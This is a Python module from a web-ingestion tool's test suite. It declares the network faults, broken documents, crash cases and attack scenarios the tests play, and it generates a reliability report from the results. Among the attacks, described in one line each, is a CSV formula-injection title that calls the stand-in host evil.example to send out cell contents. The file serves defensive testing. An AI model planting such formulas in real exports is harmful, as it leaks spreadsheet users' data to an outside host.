"""The reliability scenarios and the table they produce (docs/reliability.md); not a test module.

Every fault and hostile input the suite plays is declared here, once. The tests that play
them record what toll did (`COLLECTOR.record`); at the end of a session run with
TOLL_WRITE_RELIABILITY=1 the table is written from those records, so it never goes stale.
tests/reliability/test_reliability_doc.py checks the committed table names exactly these scenarios.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import date
from pathlib import Path

DOC = Path(__file__).resolve().parents[2] / "docs" / "reliability.md"
GOAL = "run completed, nothing lost"
ATTACK_GOAL = "attack stopped, nothing leaked"


@dataclass(frozen=True)
class Scenario:
    """One fault or hostile input."""

    id: str
    group: str
    what: str


def _group(group: str, *items: tuple[str, str]) -> tuple[Scenario, ...]:
    return tuple(Scenario(id_, group, what) for id_, what in items)


SCENARIOS: tuple[Scenario, ...] = (
    *_group(
        "network",
        ("http_500_burst", "HTTP 500 twice, then the report"),
        ("http_502_burst", "HTTP 502 twice, then the report"),
        ("http_503_burst", "HTTP 503 twice, then the report"),
        ("http_503_persistent", "HTTP 503 on every attempt"),
        ("http_429_retry_after", "HTTP 429 with Retry-After: 1, then the report"),
        ("http_429_retry_after_too_long", "HTTP 429 asking to wait a day"),
        ("hang", "the server accepts the connection and never answers"),
        ("stall", "the body stops half way and the connection stays open"),
        ("reset", "the connection is reset"),
        ("truncated", "the body is cut short of its Content-Length"),
        ("redirect_loop", "a redirect to itself, forever"),
        ("redirect_offsite", "a redirect to a host outside the source's allowed hosts"),
        ("html_served_as_pdf", "an HTML page labelled application/pdf"),
        ("pdf_served_as_html", "a PDF labelled text/html"),
        ("oversize_announced", "a 1 GiB body announced by Content-Length (cap 5 MB)"),
        ("oversize_chunked", "a 1 GiB chunked body without a length (cap 5 MB)"),
        ("gzip_bomb", "a 200 KB gzip body that inflates to 200 MiB (cap 5 MB)"),
        ("gzip_stacked", "a 2.5 KB body sent as Content-Encoding: gzip, gzip: 1 GiB inflated"),
        ("etag_churn", "a new ETag on every request, same bytes"),
        ("changed_after_listing", "the page changes between listing and fetch"),
        ("removed_after_listing", "the page is deleted (404) between listing and fetch"),
    ),
    *_group(
        "document",
        ("pdf_truncated", "a PDF cut in half"),
        ("pdf_encrypted", "a PDF encrypted with a user password"),
        ("pdf_empty", "an empty body served as a PDF"),
        ("pdf_garbage", "%PDF- followed by random bytes"),
        ("pdf_many_objects", "a 30-page PDF of 216,000 tiny ruled cells (time budget 4 s)"),
        ("pdf_nested_pages", "a PDF whose page tree nests 5,000 levels deep"),
        ("pdf_stream_bomb", "a PDF content stream inflating to 1 GiB (memory budget 300 MiB)"),
        ("html_nested_tags", "HTML with 100,000 nested tags"),
        ("html_wrong_charset", "HTML declaring UTF-8 but written in Windows-1252"),
        ("html_unknown_charset", "HTML declaring a charset that does not exist"),
        (
            "html_http_charset",
            "an Arabic page in windows-1256, its charset only in the HTTP header",
        ),
        ("html_scripts", "HTML whose figures sit inside <script> and event handlers"),
        ("html_ragged_table", "an HTML table with ragged rows and absurd row/colspans"),
        ("html_overflow_numbers", "counts of 10^30 in a table and in words"),
        ("text_binary", "binary noise served as plain text"),
        ("hostile_urls", "report URLs with ../, 3,000 characters and Arabic"),
    ),
    *_group(
        "crash",
        ("kill_during_load", "kill -9 of `toll ingest` while it loads"),
        ("disk_full", "the archive's disk fills up during a run"),
        ("archive_read_only", "the archive folder is on a read-only file system"),
        ("archive_is_a_file", "the archive path is a file, not a folder"),
        (
            "archive_umask",
            "a run under umask 022: an analyst or a Dask worker under another user reads "
            "the archive",
        ),
    ),
    *_group(
        "attack",
        ("gzip_bomb_memory", "a 1 GiB gzip bomb against a 20 MB cap: peak memory of the fetch"),
        ("gzip_bomb_out_of_memory", "a 1 GiB gzip bomb, a 2 GiB cap and 300 MiB of memory"),
        ("redirect_other_port", "a report redirecting to another port of an allowed host"),
        ("private_address", "an allowed name that resolves to loopback, 10.x or 169.254.x"),
        ("dns_rebinding", "a name that resolves to one address, then to another"),
        ("redirect_robots", "a redirect to an allowed host whose robots.txt disallows it"),
        ("crawl_delay_day", "robots.txt asking for a Crawl-delay of 86,400 s"),
        (
            "terminal_markup",
            "a title and report holding [/], [link=…], ANSI escapes and bidi "
            "overrides, shown by toll ingest, sql, status, check and explain",
        ),
        (
            "csv_formula",
            'a title =HYPERLINK("http://evil.example/?"&A1,"Open report") exported as CSV and HXL',
        ),
        ("report_script_injection", "a script that slipped past the report's escaping"),
        ("artifact_markdown", "Markdown links, images and HTML in a failure shown by Prefect"),
        ("sql_memory", "a query needing gigabytes of memory (--memory-limit 64MB)"),
        ("sql_forever", "a query that never ends (--timeout 1)"),
        ("sql_settings", "a query changing settings or writing the temp folder"),
        ("png_huge_page", "a 600-byte PDF with a 200-inch page, rendered by toll explain --png"),
        ("png_paths", "toll explain --png pointed at a non-PNG path or an existing file"),
        ("tmp_symlink", "a symlink planted at the predictable temporary name of an atomic write"),
    ),
)
SCENARIO_IDS = frozenset(s.id for s in SCENARIOS)
# The test files that play the scenarios: tests/reliability/ and two that need their own
# fixtures (the atomic writes' unit tests, the report in Chromium).
PLAYED_IN = (
    "tests/reliability/",
    "tests/warehouse/test_files.py",
    "tests/warehouse/outputs/test_report_browser.py",
)
REGENERATE = "TOLL_WRITE_RELIABILITY=1 .venv/bin/python -m pytest " + " ".join(PLAYED_IN)


GROUP_OF = {s.id: s.group for s in SCENARIOS}


@dataclass(frozen=True)
class Observation:
    """What toll did in one scenario, as the test run saw it. For an attack, `completed`
    says toll stopped it and `lost` what got through."""

    scenario: str
    did: str
    completed: bool
    lost: str | None = None

    @property
    def result(self) -> str:
        """'run completed, nothing lost' ('attack stopped, nothing leaked'), or what went
        wrong."""
        if GROUP_OF[self.scenario] == "attack":
            stopped = "attack stopped" if self.completed else "ATTACK NOT STOPPED"
            return f"{stopped}, " + (f"LEAKED: {self.lost}" if self.lost else "nothing leaked")
        run = "run completed" if self.completed else "RUN DID NOT COMPLETE"
        return f"{run}, " + (f"LOST: {self.lost}" if self.lost else "nothing lost")

    @property
    def goal(self) -> str:
        """The result this scenario must have."""
        return ATTACK_GOAL if GROUP_OF[self.scenario] == "attack" else GOAL


class Collector:
    """Observations recorded by the tests during one session."""

    def __init__(self) -> None:
        self.observed: dict[str, Observation] = {}

    def record(self, scenario: str, did: str, completed: bool, lost: str | None = None) -> None:
        """Record a scenario's outcome (before the test asserts it, so failures show too)."""
        if scenario not in SCENARIO_IDS:
            raise KeyError(f"undeclared reliability scenario {scenario!r}: add it to SCENARIOS")
        self.observed[scenario] = Observation(scenario, _oneline(did), completed, lost)

    def missing(self) -> list[str]:
        """Declared scenarios that did not run in this session."""
        return [s.id for s in SCENARIOS if s.id not in self.observed]


COLLECTOR = Collector()


def _oneline(text: str) -> str:
    return re.sub(r"\s+", " ", text).replace("|", "\\|").strip()


def render(observed: dict[str, Observation], today: date) -> str:
    """docs/reliability.md from a session's observations."""
    titles = {
        "network": "Faults of the web (the real nightly flow against the local sample site)",
        "document": "Hostile and broken documents (served by the site, through the real flow)",
        "crash": "Crashes, a failing disk, and files other users read",
        "attack": "Attacks: a hostile server, a document written to hurt its reader, a query "
        "written to hurt the machine (each played for real: a server on 127.0.0.1, the real "
        "commands)",
    }
    lines = [
        "# Reliability: faults and hostile inputs, and what toll did",
        "",
        f"Generated from the test run on {today.isoformat()}; do not edit by hand. Regenerate "
        f"with `{REGENERATE}` (or the whole suite with `TOLL_WRITE_RELIABILITY=1`).",
        "",
        "Each row is one test that plays the fault or serves the input through the real "
        "nightly flow (a real HTTP server on 127.0.0.1, Prefect, a DuckDB file) and then checks "
        "the warehouse. *Nothing lost* means: every other document's figures are loaded, the "
        "document itself is either loaded by the next run once the fault is gone (with exactly "
        "the figures of a clean run, none twice) or, when it can never be read, kept "
        "byte for byte in the archive with its failure recorded, and `toll verify` finds the "
        "archive sound.",
        "",
    ]
    for group, title in titles.items():
        lines += [f"## {title}", "", "| id | fault or input | what toll did | result |"]
        lines += ["| --- | --- | --- | --- |"]
        for scenario in (s for s in SCENARIOS if s.group == group):
            seen = observed.get(scenario.id)
            did = seen.did if seen else "not run"
            result = seen.result if seen else "not run"
            lines.append(f"| `{scenario.id}` | {scenario.what} | {did} | {result} |")
        lines.append("")
    done = sum(1 for s in observed.values() if s.result == s.goal)
    lines.append(f"{done} of {len(SCENARIOS)} scenarios met their goal ({GOAL}; {ATTACK_GOAL}).")
    return "\n".join(lines) + "\n"


def ids_in_doc(text: str) -> set[str]:
    """Scenario ids named in the first column of the doc's tables."""
    return set(re.findall(r"^\| `([a-z0-9_]+)` \|", text, flags=re.MULTILINE))


def results_in_doc(text: str) -> dict[str, str]:
    """The result column of each scenario row."""
    rows = re.findall(r"^\| `([a-z0-9_]+)` \|.*\| ([^|]+) \|$", text, flags=re.MULTILINE)
    return {scenario: result.strip() for scenario, result in rows}


def write_doc(today: date) -> str:
    """Write docs/reliability.md if every scenario ran; returns what happened, for the log."""
    missing = COLLECTOR.missing()
    if missing:
        return f"docs/reliability.md not written: {len(missing)} scenario(s) did not run: " + (
            ", ".join(missing)
        )
    DOC.write_text(render(COLLECTOR.observed, today), encoding="utf-8")
    return f"docs/reliability.md written: {len(COLLECTOR.observed)} scenarios"
